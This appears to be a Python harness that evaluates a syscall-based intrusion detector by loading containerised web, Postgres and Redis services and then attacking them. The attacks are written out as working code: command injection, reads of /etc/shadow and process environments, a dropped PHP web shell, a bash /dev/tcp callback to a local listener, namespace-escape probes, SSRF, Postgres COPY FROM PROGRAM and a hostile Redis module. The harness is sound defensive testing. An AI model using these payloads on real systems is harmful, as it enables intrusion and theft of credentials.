#!/usr/bin/env python3
"""Live evaluation of ngram-ids on real services (issue 9, section 1).

Per service: TRAIN (LIVE_TRAIN_RUNS runs of LIVE_TRAIN_SECS under load, each ended by
`docker stop` so that start-up and shutdown are learned; profile `live-<service>`), then
HELD-OUT normal load in alert mode for LIVE_HELDOUT_SECS (another seed: false alarms), then the
ATTACKS one by one in alert mode (detected? time from the attack's request to its first alert;
did the attack work: the control), then ENFORCE mode: normal load for LIVE_ENFORCE_SECS with the
attacks made meanwhile (failed normal requests; did each attack's first harmful effect happen).
Writes bench/results/live-<UTC>.json and a markdown table into docs/evaluation-live.md.

Usage: bench/live/run.py [--short] [--services a,b] [--no-build] [--doc-section NAME]
       bench/live/run.py --report bench/results/live-XXX.json [more.json...] [--doc-section NAME]
  --short   the CI version: python, go, redis with short durations (a few minutes in all)
Environment (each overrides the default of the chosen version, full / --short):
  LIVE_SERVICES        comma list of nginx,python,apache,postgres,redis,go,tomcat,node (all /
                       python,go,redis)
  LIVE_TRAIN_RUNS      training runs, each a container start, load and stop (3 / 2)
  LIVE_TRAIN_SECS      load per training run, seconds (120 / 25)
  LIVE_HELDOUT_SECS    held-out normal load in alert mode, seconds (600 / 45)
  LIVE_ENFORCE_SECS    normal load in enforce mode, during which the attacks run (120 / 30)
  LIVE_CLIENTS         concurrent load clients (4)
  LIVE_ALERT_TIMEOUT   how long to wait for an attack's first alert, seconds (10 / 3)
  LIVE_DETECT_MS       an alert later than this after the attack's request counts as late, not
                       as a detection (1000; the issue's target is 100)
  LIVE_SEED            base random seed (1); training run k uses SEED*1000+k, held-out and
                       enforce other seeds (and so other request orders)
  LIVE_KEEP_PROFILES   1: keep the <prefix><service> profiles afterwards (default: removed)
  LIVE_PROFILE_PREFIX  the profiles' name prefix (live-): two harness runs at once that share a
                       service need different prefixes, since they share the profile store
  LIVE_RESULTS_DIR     where the JSON goes (bench/results)
  LIVE_DOC             the markdown file the table goes into (docs/evaluation-live.md); "" = none
  LIVE_DOC_SECTION     the section of LIVE_DOC replaced (full / short)
  NGRAM_IDS            the ngram-ids binary (ngram-ids on PATH, else /usr/local/bin/ngram-ids)
  LIVE_TRAIN_RUNTIME, LIVE_ALERT_RUNTIME, LIVE_ENFORCE_RUNTIME  the dockerd runtimes of the three
                       modes (ngram-ids-train, ngram-ids, ngram-ids-enforce); with runtimes that
                       pass --store and --alerts, set NGRAM_IDS_DB and NGRAM_IDS_ALERTS to match
Exit status: 0 when the protocol ran (whatever the detection figures), 1 on a harness failure
(an image missing, a service that does not start under the train runtime, a tool missing), 2 on
bad usage. A training run whose merge does not show within 90 s is an error of that service,
written in its results and the table's details, and its training stops there.
"""
import argparse
import datetime
import glob
import http.client
import json
import os
import random
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(os.path.dirname(HERE))
ALL = ["nginx", "python", "apache", "postgres", "redis", "go", "tomcat", "node"]
SHORT = ["python", "go", "redis"]
# The runtimes (scripts/register.sh's names unless LIVE_*_RUNTIME names others, e.g. the runtimes
# of a second binary registered beside them).
TRAIN_RT = os.environ.get("LIVE_TRAIN_RUNTIME") or "ngram-ids-train"
ALERT_RT = os.environ.get("LIVE_ALERT_RUNTIME") or "ngram-ids"
ENFORCE_RT = os.environ.get("LIVE_ENFORCE_RUNTIME") or "ngram-ids-enforce"
ENV_TOKEN = "LIVE-ENV-TOKEN-51ab8e"
KEY_TOKEN = "LIVE-SECRET-KEY-9f27c1"
# A line of /etc/shadow (a user, a hash field, the days since the last change).
SHADOW_LINE = re.compile(r"(?m)^root:[^:\n]*:\d*:")
ALERT_LOG = os.environ.get("NGRAM_IDS_ALERTS", "/var/log/ngram-ids/alerts.jsonl")
RUN_ID = "%x" % (int(time.time()) & 0xFFFFFF)
# Every container of this run carries its run id: a cleanup removes this run's containers only,
# never those of another run going on at the same time (one did, and ended a soak).
LABEL = "ngram-ids.live=" + RUN_ID
# Scratch files of this run (the attacker's Redis module).
WORK = os.path.join("/tmp", "ngram-live-" + RUN_ID)


class HarnessError(Exception):
    """A failure of the harness (not a detection figure): reported and the service skipped."""


def log(msg):
    print(time.strftime("%H:%M:%S ") + msg, flush=True)


def sh(args, timeout=60, check=True, input=None):
    """Runs a command with a time limit; (rc, stdout, stderr)."""
    try:
        p = subprocess.run(args, capture_output=True, text=True, timeout=timeout, input=input)
    except subprocess.TimeoutExpired:
        if check:
            raise HarnessError("timed out after %ss: %s" % (timeout, " ".join(args)))
        return 124, "", "timeout"
    except FileNotFoundError:
        raise HarnessError("command not found: %s" % args[0])
    if check and p.returncode != 0:
        raise HarnessError("%s failed (%d): %s" % (" ".join(args[:4]), p.returncode, (p.stderr or p.stdout).strip()[-300:]))
    return p.returncode, p.stdout, p.stderr


def now_ns():
    return time.time_ns()


# ---------------------------------------------------------------------------------------------
# ngram-ids and docker


def ids_bin():
    return os.environ.get("NGRAM_IDS") or shutil.which("ngram-ids") or "/usr/local/bin/ngram-ids"


def profile_show(name):
    rc, out, _ = sh([ids_bin(), "profile", "show", name, "--json"], check=False)
    if rc != 0:
        return None
    try:
        return json.loads(out)
    except ValueError:
        return None


def profile_rm(name):
    sh([ids_bin(), "profile", "rm", name], check=False)


_LOG = {"offset": 0, "ino": None, "by_cid": {}}


def alerts_of(cid):
    """Every alert (source syscall) of the container, oldest first, as output_fields + rule.
    Reads the alert log itself, incrementally (other writers' lines of other shapes, e.g. a newer
    ngram-ids' rules or events, are skipped rather than refused)."""
    try:
        st = os.stat(ALERT_LOG)
    except OSError:
        return []
    if st.st_ino != _LOG["ino"] or st.st_size < _LOG["offset"]:
        _LOG.update(offset=0, ino=st.st_ino, by_cid={})
    with open(ALERT_LOG, "rb") as f:
        f.seek(_LOG["offset"])
        data = f.read()
    end = data.rfind(b"\n") + 1  # only whole lines
    _LOG["offset"] += end
    for line in data[:end].splitlines():
        try:
            v = json.loads(line)
        except ValueError:
            continue
        if not isinstance(v, dict):
            continue
        f = v.get("output_fields") or {}
        if v.get("source", "syscall") != "syscall" or not isinstance(f, dict) or "evt.time" not in f:
            continue
        f = dict(f)
        f["rule"] = v.get("rule")
        f["output"] = str(v.get("output", ""))[:300]
        _LOG["by_cid"].setdefault(f.get("container.full_id"), []).append(f)
    found = list(_LOG["by_cid"].get(cid, []))
    found.sort(key=lambda a: a.get("evt.time", 0))
    return found


def status_of(cid):
    """The supervisor's status.json of container `cid` (the runtime's state directory under
    whichever dockerd runs it), or None."""
    for path in glob.glob("/run/docker*/runtime-*/moby/%s/status.json" % cid):
        try:
            with open(path) as f:
                return json.load(f)
        except (OSError, ValueError):
            pass
    return None


def alert_sample(a):
    keep = {k: v for k, v in a.items() if k.startswith("ngram.") or k in ("rule", "proc.exepath", "proc.pid", "evt.time")}
    keep["output"] = a.get("output", "")[:200]
    return keep


def alert_brief(a):
    return "%s [%s] p=%s window=%s exe=%s" % (
        a.get("rule"), " ".join(a.get("ngram.syscalls") or []), fmt_num(a.get("ngram.probability")),
        fmt_num(a.get("ngram.window_score")), a.get("proc.exepath"))


def fmt_num(x):
    return "%.3g" % x if isinstance(x, (int, float)) else str(x)


CONTAINERS = set()


def docker_run(name, runtime, image, port, profile, extra=(), env_token=True):
    args = ["docker", "run", "-d", "--name", name, "--runtime", runtime,
            "--label", LABEL, "--label", "ngram-ids.profile=" + profile,
            "-p", "127.0.0.1::%d" % port]
    if env_token:
        args += ["-e", "LIVE_TOKEN=" + ENV_TOKEN]
    args += list(extra) + [image]
    rc, out, err = sh(args, timeout=120, check=False)
    CONTAINERS.add(name)
    if rc != 0:
        return None, err.strip().splitlines()[-1] if err.strip() else "docker run failed"
    return out.strip(), None


def host_port(name, port):
    _, out, _ = sh(["docker", "port", name, "%d/tcp" % port], timeout=30)
    line = out.strip().splitlines()[0]
    return int(line.rsplit(":", 1)[1])


def running(name):
    rc, out, _ = sh(["docker", "inspect", "-f", "{{.State.Running}}", name], check=False, timeout=30)
    return rc == 0 and out.strip() == "true"


def docker_stop(name, timeout=10):
    sh(["docker", "stop", "-t", str(timeout), name], timeout=timeout + 60, check=False)


def docker_rm(name):
    sh(["docker", "rm", "-f", name], timeout=60, check=False)
    CONTAINERS.discard(name)


def read_alert_lines():
    """The alert log's lines (empty when it cannot be read)."""
    try:
        with open(ALERT_LOG, encoding="utf-8", errors="replace") as f:
            return f.read().splitlines()
    except OSError:
        return []


def created(name, path):
    """Did the container's writable layer gain (or change) PATH? (`docker diff`: no exec, so it
    works in enforce mode too.)"""
    rc, out, _ = sh(["docker", "diff", name], timeout=60, check=False)
    return rc == 0 and any(l[2:] == path for l in out.splitlines() if l[:2] in ("A ", "C "))


def cleanup_all():
    rc, out, _ = sh(["docker", "ps", "-aq", "--filter", "label=" + LABEL], check=False)
    ids = out.split()
    if ids:
        sh(["docker", "rm", "-f"] + ids, timeout=120, check=False)


# ---------------------------------------------------------------------------------------------
# The reverse-shell listener: on the Docker bridge's gateway address (the host side of the
# containers' network; traffic never leaves the host), records who connected and when.


class Listener:
    def __init__(self):
        rc, out, _ = sh(["docker", "network", "inspect", "bridge", "-f", "{{(index .IPAM.Config 0).Gateway}}"], check=False)
        self.host = out.strip() if rc == 0 and out.strip() else "172.17.0.1"
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((self.host, 0))
        self.sock.listen(16)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.hits = []
        self.stop = False
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self):
        while not self.stop:
            try:
                c, addr = self.sock.accept()
            except (socket.timeout, OSError):
                continue
            self.hits.append((now_ns(), addr[0]))
            c.close()

    def since(self, t0):
        return [h for h in self.hits if h[0] >= t0]


# ---------------------------------------------------------------------------------------------
# Load: a pool of clients sending a seeded mix of requests until a deadline or a stop event.


class Stats:
    def __init__(self):
        self.lock = threading.Lock()
        self.requests = 0
        self.failed = 0
        self.attack_side_effects = 0
        self.samples = []

    def ok(self):
        with self.lock:
            self.requests += 1

    def fail(self, what):
        with self.lock:
            self.requests += 1
            self.failed += 1
            if len(self.samples) < 5:
                self.samples.append(what[:200])

    def side_effect(self):
        """A normal request that failed because of an attack, not of the IDS (Redis: a write
        refused while REPLICAOF made the server a read-only replica)."""
        with self.lock:
            self.requests += 1
            self.attack_side_effects += 1

    def add(self, requests, failed, samples=()):
        with self.lock:
            self.requests += requests
            self.failed += failed
            self.samples.extend(list(samples)[: max(0, 5 - len(self.samples))])

    def json(self):
        return {"requests": self.requests, "failed": self.failed, "attack_side_effects": self.attack_side_effects,
                "failure_samples": self.samples}


WORDS = ["apple", "pear", "plum", "kiwi", "fig", "lime", "date", "grape", "melon", "cherry"]


def http_once(port, method, path, body=None, ctype=None, timeout=30):
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    try:
        conn.request(method, path, body=body, headers={"Content-Type": ctype} if ctype else {})
        r = conn.getresponse()
        return r.status, r.read().decode("latin-1")
    finally:
        conn.close()


def http_load(svc, port, secs, seed, clients, stop=None):
    """Each client: a connection for 1-5 requests of the weighted mix, then a new one."""
    stats = Stats()
    deadline = time.time() + secs
    routes = svc.routes()
    names = [r[0] for r in routes]
    weights = [r[1] for r in routes]
    state = {"max_id": 1, "lock": threading.Lock()}

    def client(k):
        rng = random.Random(seed * 100 + k)
        while time.time() < deadline and not (stop and stop.is_set()):
            conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
            try:
                for _ in range(rng.randint(1, 5)):
                    name = rng.choices(names, weights)[0]
                    method, path, body, ctype, expect = svc.make(name, rng, state)
                    try:
                        conn.request(method, path, body=body, headers={"Content-Type": ctype} if ctype else {})
                        r = conn.getresponse()
                        data = r.read()
                    except (OSError, http.client.HTTPException) as e:
                        stats.fail("%s %s: %s" % (method, path, e))
                        break
                    if r.status in expect:
                        stats.ok()
                        if name == "item_create" and r.status == 201:
                            with state["lock"]:
                                state["max_id"] += 1
                    else:
                        stats.fail("%s %s: HTTP %d %s" % (method, path, r.status, data[:80]))
                    if r.getheader("Connection", "").lower() == "close":
                        break
            finally:
                conn.close()

    threads = [threading.Thread(target=client, args=(k,), daemon=True) for k in range(clients)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(secs + 120)
    return stats


class WebService:
    """nginx, python, go, apache, tomcat: HTTP with an injectable command and a file reader."""
    port = 8080
    start_timeout = 60
    kind = "http"

    def __init__(self, name):
        self.name = name
        self.image = "ngram-live-" + name

    # the route table: name -> weight
    WEIGHTS = [("index", 10), ("about", 6), ("css", 6), ("js", 4), ("items_list", 8), ("item_create", 5),
               ("item_get", 4), ("item_delete", 2), ("stats", 3), ("hash", 3), ("uptime", 2), ("wc", 3),
               ("read", 3), ("upload", 1), ("missing", 1), ("fetch", 2)]

    def routes(self):
        return [(n, w) for n, w in self.WEIGHTS if n in self.paths()]

    def make(self, name, rng, state):
        return self.paths()[name](rng, state)

    def ready(self, port):
        try:
            status, _ = http_once(port, "GET", "/", timeout=5)
            return status < 500
        except (OSError, http.client.HTTPException):
            return False

    def prepare(self, port):
        pass

    def load(self, port, secs, seed, clients, stop=None):
        return http_load(self, port, secs, seed, clients, stop)

    # The attack primitives: run a shell command through the service, read a file.
    def inject(self, port, cmd):
        raise NotImplementedError

    def read(self, port, path):
        raise NotImplementedError

    webroot = "/srv/www"

    def attacks(self, lst):
        """(name, function(port, container) -> (effect happened?, evidence), destructive)."""
        drop = self.webroot + "/uploads/shell.php"
        miner = "/tmp/kworkerds"

        def shell(port, c):
            body = self.inject(port, "id")
            return "uid=" in body, body[:200]

        def read_key(port, c):
            body = self.read(port, "/srv/secret.key")
            return KEY_TOKEN in body, body[:200]

        def read_environ(port, c):
            body = self.read(port, "/proc/1/environ")
            return ENV_TOKEN in body, body[:200]

        def read_shadow(port, c):
            # A credential file in a directory every program reads (decision 119).
            body = self.read(port, "/etc/shadow")
            return bool(SHADOW_LINE.search(body)), body[:200]

        def drop_file(port, c):
            body = self.inject(port, "printf '<?php system($_GET[0]); ?>' > %s" % drop)
            return created(c, drop), body[:200]

        def outbound(port, c):
            t0 = now_ns()
            body = self.inject(port, "bash -c 'echo LIVE >/dev/tcp/%s/%d'" % (lst.host, lst.port))
            time.sleep(0.5)
            return bool(lst.since(t0)), body[:200]

        def escape(port, c):
            body = self.inject(port, "unshare -m sh -c 'mount -t tmpfs none /mnt && echo MOUNTED-$((6*7))'; "
                                     "nsenter -t 1 -m -p true && echo NSENTER-$((6*7))")
            return "MOUNTED-42" in body or "NSENTER-42" in body, body[:200]

        def cryptominer(port, c):
            body = self.inject(port, "cp /bin/dd %s && %s if=/dev/zero of=/dev/null bs=64k count=4000 && echo MINER-$((6*7))" % (miner, miner))
            return created(c, miner) or "MINER-42" in body, body[:200]

        return [("shell", shell, False), ("read-key", read_key, False), ("read-environ", read_environ, False),
                ("read-shadow", read_shadow, False), ("drop-file", drop_file, False),
                ("outbound", outbound, False), ("escape", escape, False), ("cryptominer", cryptominer, False)]


def q(s):
    return urllib.parse.quote(s, safe="")


def item_body_json(rng):
    return json.dumps({"name": rng.choice(WORDS), "qty": rng.randint(1, 99)}).encode()


class AppService(WebService):
    """python, go and node: the same routes."""

    def paths(self):
        return {
            "index": lambda r, s: ("GET", "/", None, None, (200,)),
            "about": lambda r, s: ("GET", "/static/about.html", None, None, (200,)),
            "css": lambda r, s: ("GET", "/static/style.css", None, None, (200,)),
            "js": lambda r, s: ("GET", "/static/app.js", None, None, (200,)),
            "items_list": lambda r, s: ("GET", "/api/items", None, None, (200,)),
            "item_create": lambda r, s: ("POST", "/api/items", item_body_json(r), "application/json", (201,)),
            "item_get": lambda r, s: ("GET", "/api/items/%d" % r.randint(1, s["max_id"]), None, None, (200, 404)),
            "item_delete": lambda r, s: ("DELETE", "/api/items/%d" % r.randint(1, s["max_id"]), None, None, (200, 404)),
            "stats": lambda r, s: ("GET", "/api/stats", None, None, (200,)),
            "hash": lambda r, s: ("GET", "/api/hash?data=%s" % r.choice(WORDS), None, None, (200,)),
            "uptime": lambda r, s: ("GET", "/tool/uptime", None, None, (200,)),
            "wc": lambda r, s: ("GET", "/tool/wc?file=%s.txt" % r.choice("abc"), None, None, (200,)),
            "read": lambda r, s: ("GET", "/read?name=%s.txt" % r.choice("abc"), None, None, (200,)),
            "upload": lambda r, s: ("POST", "/upload?name=up-%d.txt" % r.randint(0, 19), ("x" * r.randint(10, 4000)).encode(), "text/plain", (201,)),
            "missing": lambda r, s: ("GET", "/static/missing-%d.html" % r.randint(0, 9), None, None, (404,)),
            # The service asks itself (an internal API) through its fetch handler.
            "fetch": lambda r, s: ("GET", "/fetch?url=" + q("http://127.0.0.1:%d/api/%s" % (self.port, r.choice(["stats", "items"]))), None, None, (200,)),
        }

    def inject(self, port, cmd):
        return http_once(port, "GET", "/tool/wc?file=" + q("a.txt; " + cmd))[1]

    def read(self, port, path):
        return http_once(port, "GET", "/read?name=" + q("../.." + path))[1]

    def attacks(self, lst):
        """The common attacks, and two through the service's own code paths (issue 16): an
        upload whose name climbs out of the upload directory into the served tree, and a
        server-side request forgery to an address and port the service never fetched."""
        page = "/srv/www/pwned.html"

        def upload_traversal(port, c):
            status, body = http_once(port, "POST", "/upload?name=" + q("../pwned.html"),
                                     b"<h1>defaced</h1>", "text/plain")
            return created(c, page), ("%s %s" % (status, body))[:200]

        def ssrf(port, c):
            t0 = now_ns()
            status, body = http_once(port, "GET", "/fetch?url=" + q("http://%s:%d/" % (lst.host, lst.port)))
            time.sleep(0.5)
            return bool(lst.since(t0)), ("%s %s" % (status, body))[:200]

        return super().attacks(lst) + [("upload-traversal", upload_traversal, False), ("ssrf", ssrf, False)]


class GoService(AppService):
    def paths(self):
        p = super().paths()
        # http.FileServer serves the root; /static/ is the same directory.
        p["about"] = lambda r, s: ("GET", r.choice(["/about.html", "/static/about.html"]), None, None, (200,))
        return p


class ApacheService(WebService):
    port = 80
    webroot = "/var/www/html"

    def paths(self):
        return {
            "index": lambda r, s: ("GET", r.choice(["/", "/index.php"]), None, None, (200,)),
            "about": lambda r, s: ("GET", "/about.html", None, None, (200,)),
            "css": lambda r, s: ("GET", "/style.css", None, None, (200,)),
            "js": lambda r, s: ("GET", "/app.js", None, None, (200,)),
            "items_list": lambda r, s: ("GET", "/api.php", None, None, (200,)),
            "item_create": lambda r, s: ("POST", "/api.php", item_body_json(r), "application/json", (201,)),
            "item_get": lambda r, s: ("GET", "/api.php?id=%d" % r.randint(1, s["max_id"]), None, None, (200, 404)),
            "item_delete": lambda r, s: ("DELETE", "/api.php?id=%d" % r.randint(1, s["max_id"]), None, None, (200, 404)),
            "hash": lambda r, s: ("GET", "/hash.php?data=%s" % r.choice(WORDS), None, None, (200,)),
            "uptime": lambda r, s: ("GET", "/uptime.php", None, None, (200,)),
            "wc": lambda r, s: ("GET", "/wc.php?file=%s.txt" % r.choice("abc"), None, None, (200,)),
            "read": lambda r, s: ("GET", "/read.php?name=%s.txt" % r.choice("abc"), None, None, (200,)),
            "upload": lambda r, s: ("POST", "/upload.php?name=up-%d.txt" % r.randint(0, 19), ("x" * r.randint(10, 4000)).encode(), "text/plain", (201,)),
            "missing": lambda r, s: ("GET", "/missing-%d.html" % r.randint(0, 9), None, None, (404,)),
        }

    def inject(self, port, cmd):
        return http_once(port, "GET", "/wc.php?file=" + q("a.txt; " + cmd))[1]

    def read(self, port, path):
        return http_once(port, "GET", "/read.php?name=" + q("../.." + path))[1]


class TomcatService(WebService):
    start_timeout = 240
    webroot = "/var/lib/tomcat10/webapps/ROOT"

    def paths(self):
        form = "application/x-www-form-urlencoded"
        return {
            "index": lambda r, s: ("GET", r.choice(["/", "/index.jsp"]), None, None, (200,)),
            "about": lambda r, s: ("GET", "/about.html", None, None, (200,)),
            "css": lambda r, s: ("GET", "/style.css", None, None, (200,)),
            "js": lambda r, s: ("GET", "/app.js", None, None, (200,)),
            "items_list": lambda r, s: ("GET", "/api.jsp", None, None, (200,)),
            "item_create": lambda r, s: ("POST", "/api.jsp", ("name=%s&qty=%d" % (r.choice(WORDS), r.randint(1, 99))).encode(), form, (201,)),
            "item_get": lambda r, s: ("GET", "/api.jsp?id=%d" % r.randint(1, s["max_id"]), None, None, (200, 404)),
            "item_delete": lambda r, s: ("POST", "/api.jsp?op=delete&id=%d" % r.randint(1, s["max_id"]), b"", form, (200, 404)),
            "hash": lambda r, s: ("GET", "/hash.jsp?data=%s" % r.choice(WORDS), None, None, (200,)),
            "uptime": lambda r, s: ("GET", "/uptime.jsp", None, None, (200,)),
            "wc": lambda r, s: ("GET", "/wc.jsp?file=%s.txt" % r.choice("abc"), None, None, (200,)),
            "read": lambda r, s: ("GET", "/read.jsp?name=%s.txt" % r.choice("abc"), None, None, (200,)),
            "upload": lambda r, s: ("POST", "/upload.jsp?name=up-%d.txt" % r.randint(0, 19), ("x" * r.randint(10, 4000)).encode(), "text/plain", (201,)),
            "missing": lambda r, s: ("GET", "/missing-%d.html" % r.randint(0, 9), None, None, (404,)),
        }

    def ready(self, port):
        # The JSPs compile on their first request: ready once index.jsp answers 200.
        try:
            return http_once(port, "GET", "/index.jsp", timeout=60)[0] == 200
        except (OSError, http.client.HTTPException):
            return False

    def prepare(self, port):
        # Compile every JSP once before the load (as a deployment's smoke test would).
        for p in ["/api.jsp", "/hash.jsp?data=x", "/uptime.jsp", "/wc.jsp?file=a.txt", "/read.jsp?name=a.txt"]:
            try:
                http_once(port, "GET", p, timeout=120)
            except (OSError, http.client.HTTPException):
                pass

    def inject(self, port, cmd):
        return http_once(port, "GET", "/wc.jsp?file=" + q("a.txt; " + cmd))[1]

    def read(self, port, path):
        return http_once(port, "GET", "/read.jsp?name=" + q("../.." + path))[1]


class NginxService(WebService):
    port = 80
    webroot = "/var/www/html"
    WEIGHTS = [("index", 10), ("about", 6), ("css", 6), ("js", 4), ("stats", 3), ("date", 3), ("wc", 3), ("missing", 1)]

    def paths(self):
        return {
            "index": lambda r, s: ("GET", r.choice(["/", "/index.html"]), None, None, (200,)),
            "about": lambda r, s: ("GET", "/about.html", None, None, (200,)),
            "css": lambda r, s: ("GET", "/style.css", None, None, (200,)),
            "js": lambda r, s: ("GET", "/app.js", None, None, (200,)),
            "stats": lambda r, s: ("GET", "/cgi-bin/stats", None, None, (200,)),
            "date": lambda r, s: ("GET", "/cgi-bin/run?date", None, None, (200,)),
            "wc": lambda r, s: ("GET", "/cgi-bin/run?" + q("wc -c /var/www/html/%s" % r.choice(["index.html", "about.html", "style.css"])), None, None, (200,)),
            "missing": lambda r, s: ("GET", "/missing-%d.html" % r.randint(0, 9), None, None, (404,)),
        }

    def inject(self, port, cmd):
        return http_once(port, "GET", "/cgi-bin/run?" + q(cmd))[1]

    def read(self, port, path):
        return self.inject(port, "cat " + path)


# ---------------------------------------------------------------------------------------------
# PostgreSQL: pgbench (a persistent-connection pgbench, a connection-per-transaction pgbench)
# and psql queries from the host; attacks as SQL through psql.


class PostgresService:
    name = "postgres"
    image = "ngram-live-postgres"
    port = 5432
    start_timeout = 90
    kind = "postgres"

    def psql(self, port, sql, timeout=60):
        rc, out, err = sh(["psql", "-h", "127.0.0.1", "-p", str(port), "-U", "postgres", "-d", "postgres",
                           "-X", "-A", "-t", "-v", "ON_ERROR_STOP=1", "-c", sql], timeout=timeout, check=False)
        return rc, out + err

    def ready(self, port):
        return self.psql(port, "SELECT 1", timeout=10)[0] == 0

    def prepare(self, port):
        rc, out, err = sh(["pgbench", "-h", "127.0.0.1", "-p", str(port), "-U", "postgres", "-i", "-s", "2", "-q", "postgres"],
                          timeout=120, check=False)
        if rc != 0:
            raise HarnessError("pgbench -i failed: " + (err or out).strip()[-200:])

    def load(self, port, secs, seed, clients, stop=None):
        stats = Stats()
        script = os.path.join(HERE, "pgbench-mix.sql")
        base = ["pgbench", "-h", "127.0.0.1", "-p", str(port), "-U", "postgres", "-n", "--random-seed=%d" % seed]
        persistent = base + ["-c", str(max(1, clients - 1)), "-j", "2", "-T", str(max(1, int(secs))),
                             "-b", "tpcb-like@5", "-b", "select-only@4", "-b", "simple-update@1", "-f", script + "@2", "postgres"]
        per_tx = base + ["-C", "-c", "1", "-T", str(max(1, int(secs))), "-b", "select-only@3", "-f", script + "@1", "postgres"]
        procs = [subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for cmd in (persistent, per_tx)]
        rng = random.Random(seed)
        deadline = time.time() + secs
        queries = ["SELECT count(*) FROM pgbench_accounts WHERE abalance > 0",
                   "SELECT bid, sum(bbalance) FROM pgbench_branches GROUP BY bid ORDER BY bid",
                   "SELECT now(), version()", "SELECT count(*) FROM pgbench_history",
                   "SELECT relname, n_live_tup FROM pg_stat_user_tables ORDER BY relname"]
        while time.time() < deadline and not (stop and stop.is_set()):
            rc, out = self.psql(port, rng.choice(queries), timeout=60)
            if rc == 0:
                stats.ok()
            else:
                stats.fail("psql: " + out.strip()[-150:])
            time.sleep(rng.uniform(0.5, 3))
        for p in procs:
            try:
                out, err = p.communicate(timeout=max(60, secs + 60))
            except subprocess.TimeoutExpired:
                p.kill()
                out, err = p.communicate()
                stats.fail("pgbench did not end")
                continue
            done = failed = 0
            for line in out.splitlines():
                if line.startswith("number of transactions actually processed:"):
                    done = int(line.split(":")[1].split()[0].split("/")[0])
                if line.startswith("number of failed transactions:"):
                    failed = int(line.split(":")[1].split()[0])
            samples = [l for l in err.splitlines() if "error" in l.lower() or "abort" in l.lower()][:3]
            aborted = p.returncode != 0
            if aborted and not samples:
                samples = ["pgbench exit %d: %s" % (p.returncode, err.strip()[-150:])]
            stats.add(done + failed + (1 if aborted else 0), failed + (1 if aborted else 0), samples)
        return stats

    def attacks(self, lst):
        drop = "/var/lib/postgresql/15/main/live_evil.sh"
        miner = "/tmp/kworkerds"

        def program(port, cmd):
            # COPY ... FROM PROGRAM: the output of a shell command into a table.
            sql = "CREATE TEMP TABLE o(l text); COPY o FROM PROGRAM %s; SELECT * FROM o;" % lit(cmd)
            return self.psql(port, sql)[1]

        def shell(port, c):
            body = program(port, "id")
            return "uid=" in body, body[:200]

        def read_key(port, c):
            body = self.psql(port, "SELECT pg_read_file('/srv/secret.key')")[1]
            return KEY_TOKEN in body, body[:200]

        def read_environ(port, c):
            body = self.psql(port, "SELECT encode(pg_read_binary_file('/proc/1/environ'), 'escape')")[1]
            return ENV_TOKEN in body, body[:200]

        def read_shadow(port, c):
            body = self.psql(port, "SELECT pg_read_file('/etc/shadow')")[1]
            return bool(SHADOW_LINE.search(body)), body[:200]

        def drop_file(port, c):
            body = self.psql(port, "COPY (SELECT '#!/bin/sh' UNION ALL SELECT 'id') TO %s" % lit(drop))[1]
            return created(c, drop), body[:200]

        def outbound(port, c):
            t0 = now_ns()
            body = program(port, "bash -c 'echo LIVE >/dev/tcp/%s/%d'" % (lst.host, lst.port))
            time.sleep(0.5)
            return bool(lst.since(t0)), body[:200]

        def escape(port, c):
            body = program(port, "unshare -m sh -c 'mount -t tmpfs none /mnt && echo MOUNTED-$((6*7))' 2>&1; nsenter -t 1 -m -p true 2>&1 && echo NSENTER-$((6*7))")
            return "MOUNTED-42" in body or "NSENTER-42" in body, body[:200]

        def cryptominer(port, c):
            body = program(port, "cp /bin/dd %s && %s if=/dev/zero of=/dev/null bs=64k count=4000 2>&1 && echo MINER-$((6*7))" % (miner, miner))
            return created(c, miner) or "MINER-42" in body, body[:200]

        return [("shell", shell, False), ("read-key", read_key, False), ("read-environ", read_environ, False),
                ("read-shadow", read_shadow, False), ("drop-file", drop_file, False),
                ("outbound", outbound, False), ("escape", escape, False), ("cryptominer", cryptominer, False)]


def lit(s):
    return "'" + s.replace("'", "''") + "'"


# ---------------------------------------------------------------------------------------------
# Redis: a seeded mixed RESP client (plus a redis-benchmark burst); attacks as commands.


def resp_encode(*args):
    out = b"*%d\r\n" % len(args)
    for a in args:
        a = a if isinstance(a, bytes) else str(a).encode()
        out += b"$%d\r\n%s\r\n" % (len(a), a)
    return out


class Resp:
    def __init__(self, port, timeout=30):
        self.s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        self.f = self.s.makefile("rb")

    def close(self):
        try:
            self.s.close()
        except OSError:
            pass

    def read(self):
        line = self.f.readline()
        if not line:
            raise OSError("connection closed")
        t, rest = line[:1], line[1:-2]
        if t == b"+":
            return rest.decode()
        if t == b"-":
            return RedisError(rest.decode())
        if t == b":":
            return int(rest)
        if t == b"$":
            n = int(rest)
            if n < 0:
                return None
            data = self.f.read(n + 2)[:-2]
            return data.decode("latin-1")
        if t == b"*":
            n = int(rest)
            return None if n < 0 else [self.read() for _ in range(n)]
        raise OSError("bad reply %r" % line[:40])

    def cmd(self, *args):
        self.s.sendall(resp_encode(*args))
        return self.read()

    def pipeline(self, cmds):
        self.s.sendall(b"".join(resp_encode(*c) for c in cmds))
        return [self.read() for _ in cmds]


class RedisError(str):
    pass


MODULE_SRC = r"""
#include <fcntl.h>
#include <unistd.h>
int RedisModule_OnLoad(void *ctx, void **argv, int argc) {
    (void)ctx; (void)argv; (void)argc;
    int fd = open("/tmp/module-ran", O_WRONLY | O_CREAT, 0644);
    if (fd >= 0) { write(fd, "pwned\n", 6); close(fd); }
    return 1; /* REDISMODULE_ERR: the code ran, the module does not stay */
}
"""


def module_object():
    """The attacker's Redis module (built once with the host's cc), its path."""
    out = os.path.join(WORK, "redis-mod.so")
    if not os.path.exists(out):
        os.makedirs(WORK, exist_ok=True)
        src = os.path.join(WORK, "redis-mod.c")
        with open(src, "w") as f:
            f.write(MODULE_SRC)
        sh(["cc", "-shared", "-fPIC", "-O2", "-o", out, src], timeout=120)
    return out


def redis_cmd(port, *args, timeout=30):
    try:
